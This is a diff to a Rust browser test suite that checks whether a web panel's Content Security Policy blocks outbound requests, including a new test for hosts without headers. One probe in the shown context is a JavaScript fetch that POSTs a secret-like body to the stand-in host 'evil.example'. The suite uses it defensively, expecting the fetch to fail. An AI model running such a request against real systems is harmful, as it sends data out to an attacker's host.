@@ -65,7 +65,7 @@ const PROBES: [Probe; 16] = [
         attempt: "await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'key' }); return 'sent';",
         failed: "TypeError",
     },
-    // The page's own policy allows it, for hosts without headers; the header does not.
+    // The policy in the page's file allows it, for hosts without headers; the header and the running panel do not.
     Probe {
         name: "a request to another port of this machine",
         by: "connect-src",
@@ -122,6 +122,11 @@ const PROBES: [Probe; 16] = [
 ];
 
 async fn attempt(page: &Page, probe: &Probe) {
+    fails(page, probe).await;
+    page.policy_violation(probe.by).await;
+}
+
+async fn fails(page: &Page, probe: &Probe) {
     let outcome = page.evaluate(probe.attempt).await;
     let outcome = outcome.as_str().unwrap_or_default();
     assert!(
@@ -129,7 +134,6 @@ async fn attempt(page: &Page, probe: &Probe) {
         "{}: {outcome}",
         probe.name
     );
-    page.policy_violation(probe.by).await;
 }
 
 #[test]
@@ -168,6 +172,30 @@ fn in_a_browser_without_trusted_types_the_policy_refuses_scripts_all_the_same() 
             assert!(outcome.contains(failed), "{name}: {outcome}");
             page.policy_violation(by).await;
         }
+    });
+}
+
+#[test]
+fn on_a_host_without_headers_requests_go_to_the_api_base_alone() {
+    page_test(async |page| {
+        let host = StaticHost::start().await;
+        page.visit(&host.url()).await;
+        page.heading("Sign in").visible().await;
+        for name in [
+            "a request to another host",
+            "a request to another port of this machine",
+        ] {
+            let probe = PROBES.iter().find(|probe| probe.name == name);
+            let probe = probe.expect("a probe of this name");
+            fails(page, probe).await;
+            page.page_policy_violation(probe.by).await;
+        }
+        let policies = page
+            .evaluate(
+                "return [...document.querySelectorAll('meta[http-equiv]')].map((policy) => policy.content).at(-1);",
+            )
+            .await;
+        assert_eq!(policies, "connect-src 'self' https://api.paperspace.com");
     });
 }
 
